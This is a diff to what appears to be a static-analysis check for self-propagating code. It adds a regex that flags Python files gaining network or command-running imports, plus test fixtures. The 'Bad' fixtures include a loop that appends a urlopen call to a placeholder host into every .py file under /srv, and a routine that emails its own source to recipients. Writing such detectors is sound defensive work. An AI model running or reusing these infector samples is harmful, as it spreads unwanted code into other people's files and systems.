@@ -44,6 +44,14 @@ CARRIERS = {
 }
 
 
+PYTHON_FILES = re.compile(r"\*\.pyw?(?:$|/)")
+# What no header, licence or future import does: it connects, or runs something.
+CODE_THAT_ACTS = re.compile(
+    r"\bimport\b.*\b(?:urlopen|urlretrieve|create_connection|system|popen|Popen|exec|eval|(?:requests|httpx)\.(?:get|post)|subprocess\.\w+|socket\.socket)\s*\(",
+    re.DOTALL,
+)
+
+
 def find(unit: Unit) -> Iterator[Hit]:
     """Report writes of the own source in a loop, and transfers of it to other hosts in a loop."""
     flow = unit.fact(reach)
@@ -113,6 +121,7 @@ def _infects(write: Write, unit: Unit) -> bool:
         running.FETCH_AND_RUN.search(text)
         or running.SHELL_TO_SOCKET.search(text)
         or running.DECODE_AND_RUN.search(text)
+        or (PYTHON_FILES.search(write.where) and CODE_THAT_ACTS.search(text))
     ):
         return False
     found = any(
@@ -165,6 +174,9 @@ CHECK = Check(
     fix="Remove the code, and look for copies of it.",
     bad=(
         Bad(
+            "import glob\n\nfor path in glob.glob('/srv/**/*.py', recursive=True):\n    with open(path, 'r+') as f:\n        if 'urllib.request as u' not in f.read():\n            f.write('import urllib.request as u; u.urlopen(\"http://192.0.2.1/\")')  # finding\n"
+        ),
+        Bad(
             "import smtplib\nfrom email.message import EmailMessage\n\ndef go(people):\n    for who in people:\n        m = EmailMessage()\n        m.add_attachment(open(__file__, 'rb').read(), maintype='application', subtype='octet-stream')\n        with smtplib.SMTP('mx.example.invalid') as s:\n            s.send_message(m)  # finding\n"
         ),
         Bad(
@@ -182,6 +194,9 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good(
+            "import glob\n\nfor path in glob.glob('src/**/*.py', recursive=True):\n    with open(path, 'r+') as f:\n        text = f.read()\n        f.seek(0)\n        f.write('from __future__ import annotations' + chr(10) + text)\n"
+        ),
         Good(
             "import os, pathlib, subprocess\nfor folder in pathlib.Path('packages').iterdir():\n    subprocess.run(['twine', 'upload', '-p', os.environ['PYPI_TOKEN'], 'dist/*'], cwd=folder, check=True)\n"
         ),
